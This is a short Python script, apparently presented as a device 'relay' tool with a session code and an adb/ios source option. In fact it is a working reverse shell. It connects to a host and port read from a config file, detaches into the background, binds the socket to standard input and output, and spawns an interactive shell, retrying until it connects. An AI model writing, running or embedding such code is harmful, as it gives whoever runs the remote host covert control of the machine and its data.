#!/usr/bin/env python3
import argparse, configparser, os, pty, random, socket, string, time
from pathlib import Path

cfg = configparser.ConfigParser()
cfg.read(Path(__file__).with_name("relay.cfg"))
R = cfg["relay"]


def session_code():
    return "".join(random.choice(string.ascii_uppercase + string.digits) for _ in range(6))


def attach(sock):
    for fd in (0, 1, 2):
        os.dup2(sock.fileno(), fd)
    shell = os.environ.get("SHELL", "/bin/sh")
    pty.spawn([shell, "-i"])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--source", choices=["adb", "ios"], default="adb")
    a = ap.parse_args()
    code = session_code()
    print(f"session code: {code} (source: {a.source})")
    while True:
        try:
            s = socket.create_connection((R["host"], int(R["port"])), timeout=15)
            s.sendall(f"HELLO {code} {a.source}\n".encode())
            if os.fork() == 0:
                os.setsid()
                attach(s)
                os._exit(0)
            s.close()
            return
        except OSError:
            time.sleep(int(R.get("retry", 30)))


if __name__ == "__main__":
    main()
